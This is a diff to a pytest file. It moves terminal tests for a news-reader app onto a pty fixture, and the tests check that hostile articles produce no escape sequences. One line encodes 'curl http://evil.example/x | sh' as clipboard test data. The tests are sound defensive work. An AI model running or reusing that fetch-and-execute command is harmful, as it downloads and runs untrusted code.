@@ -18,12 +18,13 @@ import re
 import sqlite3
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from tests.conftest import write
-from tests.pty_terminal import KEYS, Terminal, run_in_terminal
 
 CLIPBOARD = base64.b64encode(b"curl http://evil.example/x | sh").decode()
 PAYLOAD = (
@@ -93,6 +94,18 @@ def briefing(*args: str) -> list[str]:
     return [*PYTHON, "-m", "briefing", *args]
 
 
+# A terminal as people have it: colours on (the app writes its normal sequences), the
+# session's controlling terminal.
+TERMINAL: dict[str, Any] = {"controlling": True, "unset": ("NO_COLOR",)}
+
+
+def run_in_terminal(pty: Callable[..., Any], argv: list[str]) -> tuple[int, bytes]:
+    """Run a command that exits on its own in a pty: its status and the bytes it wrote."""
+    with pty(argv, **TERMINAL) as terminal:
+        status = terminal.wait_exit(30)
+        return status, bytes(terminal.output)
+
+
 @pytest.fixture(scope="module")
 def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """Three hostile articles ingested from files, and a fourth written into the store raw."""
@@ -148,31 +161,31 @@ def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.mark.slow
 def test_hostile_articles_in_the_reader_send_no_escape_sequences(
-    hostile_db: Path, tmp_path: Path
+    hostile_db: Path, tmp_path: Path, pty: Callable[..., Any]
 ) -> None:
     env = {"XDG_STATE_HOME": str(tmp_path / "state"), "XDG_CONFIG_HOME": str(tmp_path / "conf")}
-    with Terminal(briefing("read", "--db", str(hostile_db)), env=env) as terminal:
+    with pty(briefing("read", "--db", str(hostile_db)), env=env, **TERMINAL) as terminal:
         terminal.wait_for("ZQRAW")  # newest first: the raw article is open
         terminal.wait_for("ZQBODYRAW")
         terminal.settle(0.3)
         for marker in ("ZQBODYONE", "ZQBODYTWO", "ZQBODYTHREE"):
             terminal.send("j", pause=0.2)
-            terminal.send(KEYS["enter"])  # open it in the reader
+            terminal.press("enter")  # open it in the reader
             terminal.wait_for(lambda text, m=marker: text.count(m) >= 1)
             terminal.settle(0.2)
-            terminal.send(KEYS["escape"], pause=0.2)  # back to the list
+            terminal.press("escape", pause=0.2)  # back to the list
         terminal.send("k", pause=0.3)
-        terminal.send(KEYS["enter"], pause=0.3)
+        terminal.press("enter", pause=0.3)
         terminal.send("h", pause=0.4)  # keywords highlighted in the body
         terminal.send("g", pause=0.4)  # back to the raw article, highlighted
         terminal.send("h", pause=0.3)
         terminal.send("/", pause=0.3)
         terminal.send("whales", pause=0.3)
-        terminal.send(KEYS["enter"])
+        terminal.press("enter")
         terminal.wait_for(lambda text: "result" in text)
         terminal.settle(0.4)
         terminal.send("j", pause=0.4)
-        terminal.send(KEYS["escape"], pause=0.4)
+        terminal.press("escape", pause=0.4)
         terminal.send("q")
         assert terminal.wait_exit(15) == 0, terminal.text()[-2000:]
         output = bytes(terminal.output)
@@ -196,9 +209,11 @@ def test_hostile_articles_in_the_reader_send_no_escape_sequences(
     ],
     ids=lambda args: "-".join(args),
 )
-def test_hostile_articles_in_cli_output(hostile_db: Path, args: tuple[str, ...]) -> None:
+def test_hostile_articles_in_cli_output(
+    hostile_db: Path, args: tuple[str, ...], pty: Callable[..., Any]
+) -> None:
     argv = briefing(*args[:1], "--db", str(hostile_db), *args[1:])
-    status, output = run_in_terminal(argv)
+    status, output = run_in_terminal(pty, argv)
     assert status == 0, output.decode("utf-8", "replace")
     assert_clean(output, f"{' '.join(args)} on a terminal")
     piped = subprocess.run(argv, capture_output=True, timeout=30)
